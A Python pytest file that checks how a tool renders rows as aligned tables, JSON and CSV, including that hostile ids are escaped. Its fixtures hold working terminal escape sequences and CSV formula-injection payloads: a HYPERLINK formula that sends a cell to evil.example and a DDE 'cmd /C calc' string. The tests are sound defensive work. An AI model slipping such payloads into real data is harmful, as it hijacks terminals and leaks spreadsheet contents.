"""Tool output: exit codes and rows rendered as an aligned table (rich), JSON or CSV."""

import csv
import io
import math

import orjson
import pytest

from streams.tools.console import render
from streams.tools.output import Format, cell_text, render_document, terminal_text


def rows_of(*rows):
    return [list(row) for row in rows]


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (0, "0"),
        (12, "12"),
        (1200.5, "1200.5"),
        (2.0, "2"),
        (1 / 3, "0.3333"),
        (True, "true"),
        ("team-1", "team-1"),
    ],
)
def test_a_cell_is_shown_short_and_an_absent_value_is_empty(value, text):
    assert cell_text(value) == text


def table_lines(columns, rows) -> list[str]:
    """A rendered table's lines, without the padding rich leaves after the last cell."""
    return [line.rstrip() for line in render(Format.table, columns, rows).split("\n")]


def test_a_table_aligns_text_left_and_numbers_right_under_a_rule():
    lines = table_lines(["id", "revenue"], rows_of(("team-1", 1200.5), ("t-22", 7)))

    assert lines == [
        "id      revenue",
        "------- -------",
        "team-1   1200.5",
        "t-22          7",
    ]


def test_a_column_with_absent_values_still_counts_as_numeric():
    lines = table_lines(["id", "ratio"], rows_of(("a", None), ("b", 0.5)))

    assert lines[2:] == ["a", "b     0.5"]


def test_a_long_row_stays_one_line_and_wide_letters_keep_the_columns_aligned():
    lines = table_lines(["id", "n"], rows_of(("x" * 500, 1), ("東京", 22)))

    assert len(lines) == 4
    assert lines[2] == "x" * 500 + "   1"
    assert lines[3] == "東京" + " " * (500 - 4 + 2) + "22"  # each letter two columns wide


@pytest.mark.parametrize("fmt", list(Format))
def test_every_format_carries_every_row_and_column(fmt):
    columns = ["rank", "id", "win_ratio"]
    rows = rows_of((1, "team-1", 0.25), (2, "team-2", None))

    text = render(fmt, columns, rows)

    if fmt is Format.json:
        assert orjson.loads(text) == [
            {"rank": 1, "id": "team-1", "win_ratio": 0.25},
            {"rank": 2, "id": "team-2", "win_ratio": None},
        ]
    elif fmt is Format.csv:
        assert list(csv.reader(io.StringIO(text))) == [
            columns,
            ["1", "team-1", "0.25"],
            ["2", "team-2", ""],
        ]
    else:
        assert text.splitlines()[0].split() == columns
        assert len(text.splitlines()) == 4


# Hostile ids: what anyone producing an event can put in an id, a reason or a key.
CONTROLS = [
    ("\x1b[2Jrep-1", "\\x1b[2Jrep-1"),  # clear screen
    (
        "\x1b]8;;https://evil.example/\x07rep-1\x1b]8;;\x07",  # OSC 8 hyperlink
        "\\x1b]8;;https://evil.example/\\x07rep-1\\x1b]8;;\\x07",
    ),
    ("evil\rrep-1", "evil\\rrep-1"),  # carriage return overwrites the line
    ("rep-1\x07\x08", "rep-1\\x07\\x08"),  # bell, backspace
    ("\x9b2Jrep-1", "\\x9b2Jrep-1"),  # C1 CSI
    ("rep-1\x7f", "rep-1\\x7f"),  # DEL
    ("\u202e1-per", "\\u202e1-per"),  # right-to-left override
    ("rep\u200b-1", "rep\\u200b-1"),  # zero-width space
    ("rep-1\u2028fake line", "rep-1\\u2028fake line"),  # line separator
    ("rep-1\nfake line", "rep-1\\nfake line"),
    ("rep\t-1\x00", "rep\\t-1\\x00"),
    ("rep-1\U000e0041", "rep-1\\U000e0041"),  # tag character
]
LITERALS = ["[red]rep-1[/red]", "[link=https://evil.example]rep-1[/link]", "rep:100:1", "Zoë 東京"]
FORMULAS = [
    (
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
        '\'=HYPERLINK("https://evil.example/?"&A1,"x")',
    ),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("-3.5", "'-3.5"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\\t=1+1"),
    ("\r=1+1", "'\\r=1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),
    ("rep-1", "rep-1"),
    ("team=1", "team=1"),
]


def is_inert(text: str) -> bool:
    """Nothing in ``text`` a terminal acts on: every character printable, lines apart."""
    return all(line.isprintable() for line in text.split("\n"))


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(("hostile", "shown"), CONTROLS)
def test_a_table_shows_the_control_characters_of_an_id_escaped(hostile, shown):
    text = render(Format.table, ["id", "revenue"], [[hostile, 1.5], ["rep-2", 20]])

    assert is_inert(text)
    assert len(text.split("\n")) == 4
    assert text.split("\n")[2].startswith(shown)


@pytest.mark.parametrize("literal", LITERALS)
def test_markup_emoji_codes_and_letters_in_an_id_are_kept_as_they_are(literal):
    assert terminal_text(literal) == literal
    assert render(Format.table, ["id"], [[literal]]).split("\n")[2] == literal


@pytest.mark.parametrize(("hostile", "shown"), CONTROLS)
def test_escaping_an_escaped_text_again_changes_nothing(hostile, shown):
    assert terminal_text(terminal_text(hostile)) == terminal_text(hostile) == shown


@pytest.mark.parametrize(("hostile", "cell"), FORMULAS)
def test_a_csv_text_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(hostile, cell):
    text = render(Format.csv, ["id", "revenue"], [[hostile, 1.5]])

    assert is_inert(text)
    assert csv_rows(text) == [["id", "revenue"], [cell, "1.5"]]


@pytest.mark.parametrize(("value", "cell"), [(-3.5, "-3.5"), (-2, "-2"), (0.25, "0.25")])
def test_a_negative_number_stays_a_number_in_csv(value, cell):
    assert csv_rows(render(Format.csv, ["delta"], [[value]]))[1] == [cell]


@pytest.mark.parametrize(("hostile", "shown"), CONTROLS)
def test_a_csv_cell_shows_control_characters_escaped_on_one_line(hostile, shown):
    text = render(Format.csv, ["id", "revenue"], [[hostile, 1.5]])

    assert is_inert(text)
    assert csv_rows(text)[1][0] in (shown, "'" + shown)


@pytest.mark.parametrize("hostile", [raw for raw, _ in CONTROLS + FORMULAS] + LITERALS)
def test_json_keeps_a_hostile_id_exact_and_still_prints_nothing_a_terminal_acts_on(hostile):
    rows = [[1, hostile, -3.5], [2, "rep-2", None]]

    text = render(Format.json, ["rank", "id", "delta"], rows)

    assert is_inert(text)
    assert orjson.loads(text) == [
        {"rank": 1, "id": hostile, "delta": -3.5},
        {"rank": 2, "id": "rep-2", "delta": None},
    ]


@pytest.mark.parametrize("hostile", [raw for raw, _ in CONTROLS])
def test_a_json_document_parses_back_to_exactly_what_was_rendered(hostile):
    document = {"reason": hostile, "value": {hostile: [hostile, 1]}}

    text = render_document(document)

    assert is_inert(text)
    assert orjson.loads(text) == document


@pytest.mark.parametrize(
    ("value", "text"), [(math.nan, "nan"), (math.inf, "inf"), (-math.inf, "-inf")]
)
def test_a_non_finite_number_is_shown_rather_than_crashing_the_output(value, text):
    assert cell_text(value) == text
